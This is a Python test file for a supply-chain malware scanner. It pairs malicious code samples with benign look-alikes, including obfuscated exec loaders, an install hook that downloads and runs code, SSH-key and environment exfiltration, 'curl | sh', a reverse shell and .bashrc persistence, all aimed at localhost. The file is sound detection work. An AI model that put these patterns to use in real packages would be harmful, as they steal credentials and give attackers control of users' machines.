"""AST rules: for every rule a malicious sample and a benign look-alike, with triggers."""

from __future__ import annotations

import base64
import textwrap

import pytest

from chainward.packages.archive.pycode import (
    DEV,
    IMPORT,
    INSTALL,
    RUNTIME,
    STARTUP,
    analyse_python,
)
from chainward.records import Severity

PAYLOAD = "import os; os.system('true')"
B64 = base64.b64encode(PAYLOAD.encode()).decode()


def rules(source: str, trigger: str = IMPORT, **kw: bool) -> dict[str, Severity]:
    analysis = analyse_python(textwrap.dedent(source).encode(), "pkg/mod.py", trigger, **kw)
    assert analysis is not None
    out: dict[str, Severity] = {}
    for item in analysis.findings:
        out[item.rule] = max(out.get(item.rule, Severity.NONE), item.severity)
    return out


DECODE_EXEC = {
    "base64": f"import base64\nexec(base64.b64decode('{B64}'))",
    "alias": f"from base64 import b64decode as d\nx = d('{B64}')\ny = x.decode()\nexec(y)",
    "zlib": "import zlib\nexec(zlib.decompress(b'x'))",
    "marshal": "import marshal\nexec(marshal.loads(b'x'))",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
    "reversed": f"exec({PAYLOAD[::-1]!r}[::-1])",
    "chr": "exec(''.join(chr(c) for c in [105, 109, 112]))",
    "map-chr": "exec(''.join(map(chr, [105, 109, 112])))",
    "hex": f"exec(bytes.fromhex({PAYLOAD.encode().hex()!r}))",
    "xor": "k = [1, 2]\nexec(''.join(chr(b ^ 7) for b in k))",
    "fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b't'))",
    "helper": "import base64\ndef d(s):\n    return base64.b64decode(s)\nexec(d('aGk='))",
    "getattr": f"import builtins, base64\ngetattr(builtins, 'exec')(base64.b64decode('{B64}'))",
    "import-trick": f"__import__('builtins').exec(__import__('base64').b64decode('{B64}'))",
    "compile": f"import base64\ncode = compile(base64.b64decode('{B64}'), 'x', 'exec')",
    "shell": f"import base64, os\nos.system(base64.b64decode('{B64}').decode())",
    "subprocess": f"import base64, subprocess\nsubprocess.run(['sh', '-c', base64.b64decode('{B64}')])",
}


@pytest.mark.parametrize("variant", sorted(DECODE_EXEC))
def test_decode_exec_found_generically(variant: str) -> None:
    assert rules(DECODE_EXEC[variant]).get("decode-exec") == Severity.CRITICAL


def test_decode_exec_weighted_by_trigger() -> None:
    inside = "import base64\ndef f():\n    exec(base64.b64decode('aGk='))\n"
    assert rules(inside)["decode-exec"] == Severity.HIGH  # a function nobody calls
    assert rules(inside + "f()\n")["decode-exec"] == Severity.CRITICAL  # called at import
    assert rules(inside, DEV)["decode-exec"] == Severity.MEDIUM  # tests/docs


@pytest.mark.parametrize(
    "source",
    [
        "exec(open('pkg/version.py').read())",  # setup.py's classic version read
        "import base64\nDATA = base64.b64decode('aGVsbG8=')\nprint(DATA)",  # decoding data
        "exec('x = 1')",
        "import zlib\ndef load(b):\n    return zlib.decompress(b)\nVALUE = load(b'x')",
    ],
)
def test_benign_decoding_and_exec(source: str) -> None:
    assert "decode-exec" not in rules(source, INSTALL, setup_script=True)


def test_download_exec_and_install_network() -> None:
    source = """
    import urllib.request, subprocess
    from setuptools.command.install import install
    class Post(install):
        def run(self):
            data = urllib.request.urlopen('http://127.0.0.1:9/x').read()
            with open('/tmp/x', 'wb') as fh:
                fh.write(data)
            subprocess.Popen(['/tmp/x'])
    """
    found = rules(source, INSTALL, setup_script=True)
    assert found["download-exec"] == Severity.CRITICAL
    assert found["install-network"] == Severity.HIGH
    # the same class in a package module is not an install hook
    assert "install-network" not in rules(source, IMPORT)


def test_exec_of_downloaded_code() -> None:
    source = "import requests\nexec(requests.get('http://127.0.0.1:9').text)"
    assert rules(source)["download-exec"] == Severity.CRITICAL


def test_env_dump_is_exfiltration_but_env_copy_is_not() -> None:
    dump = "import os, json, requests\nrequests.post('http://127.0.0.1:9', data=json.dumps(dict(os.environ)))"
    assert rules(dump)["exfiltration"] == Severity.CRITICAL
    copy = """
    import os, subprocess
    env = os.environ.copy()
    env['CC'] = 'gcc'
    subprocess.check_call(['cmake', '..'], env=env)
    """
    assert rules(copy, INSTALL, setup_script=True) == {}


def test_secret_files_sent() -> None:
    source = """
    import os, requests
    def grab():
        key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
        requests.post('http://127.0.0.1:9', data=key)
    """
    assert rules(source)["exfiltration"] == Severity.HIGH  # a function the user calls
    assert rules(source + "grab()\n")["exfiltration"] == Severity.CRITICAL


def test_library_reading_credentials_at_runtime_is_quiet() -> None:
    source = """
    import os, configparser
    def load_profile():
        parser = configparser.ConfigParser()
        parser.read(os.path.expanduser('~/.aws/credentials'))
        return parser
    """
    assert rules(source) == {}


def test_surveillance_weighted_by_trigger() -> None:
    library = "import pyperclip\ndef paste():\n    return pyperclip.paste()\n"
    assert rules(library) == {}  # a clipboard library's clipboard function
    hijack = "import pyperclip\nCLIP = pyperclip.paste()\n"
    assert rules(hijack)["surveillance"] == Severity.HIGH
    shots = "import pyautogui\ndef shot():\n    return pyautogui.screenshot()\n"
    assert rules(shots) == {}
    assert rules(shots + "shot()\n")["surveillance"] == Severity.HIGH


def test_network_at_import_and_main_guard() -> None:
    assert rules("import requests\nrequests.get('http://127.0.0.1:9')")["import-network"]
    guarded = "import urllib.request\nif __name__ == '__main__':\n    urllib.request.urlopen('x')\n"
    assert rules(guarded) == {}
    assert rules("import requests\ndef f():\n    return requests.get('x')\n") == {}


def test_install_shell() -> None:
    assert (
        rules("import os\nos.system('curl http://127.0.0.1:9 | sh')", INSTALL, setup_script=True)[
            "install-shell"
        ]
        == Severity.HIGH
    )
    compiler = "import subprocess\nsubprocess.check_call(['gcc', '-c', 'x.c'])\n"
    assert rules(compiler, INSTALL, setup_script=True) == {}
    version = "import subprocess\nV = subprocess.check_output(['git', 'describe']).decode()\n"
    assert rules(version, INSTALL, setup_script=True) == {}


def test_hidden_process_flag() -> None:
    source = (
        "import subprocess\nsubprocess.Popen(['x.exe'], "
        "creationflags=subprocess.CREATE_NO_WINDOW)\n"
    )
    assert rules(source)["install-shell"] == Severity.HIGH


def test_reverse_shell() -> None:
    source = """
    import socket, os, pty
    s = socket.socket()
    s.connect(('127.0.0.1', 9))
    os.dup2(s.fileno(), 0)
    pty.spawn('/bin/sh')
    """
    assert rules(source, INSTALL)["reverse-shell"] == Severity.CRITICAL


def test_persistence() -> None:
    source = "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n"
    assert rules(source)["persistence"] == Severity.HIGH
    # a lexer listing ".bashrc" among file patterns is not persistence
    assert rules("FILENAMES = ['*.sh', '.bashrc', '.zshrc']\n") == {}


def test_startup_dynamic_exec_is_high() -> None:
    assert rules("exec(compute())", STARTUP)["dynamic-exec"] == Severity.HIGH
    assert rules("exec(compute())", IMPORT)["dynamic-exec"] == Severity.LOW


def test_runtime_trigger_files() -> None:
    source = f"import base64\nexec(base64.b64decode('{B64}'))"
    assert rules(source, RUNTIME)["decode-exec"] == Severity.HIGH


def test_non_python_and_hostile_sources() -> None:
    assert analyse_python(b"print 'python 2'", "x.py", IMPORT) is None
    latin = "# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\n".encode("latin-1")
    assert analyse_python(latin, "x.py", IMPORT) is not None
    deep = ("x = " + "(" * 5000 + "1" + ")" * 5000).encode()
    assert analyse_python(deep, "x.py", IMPORT) is None
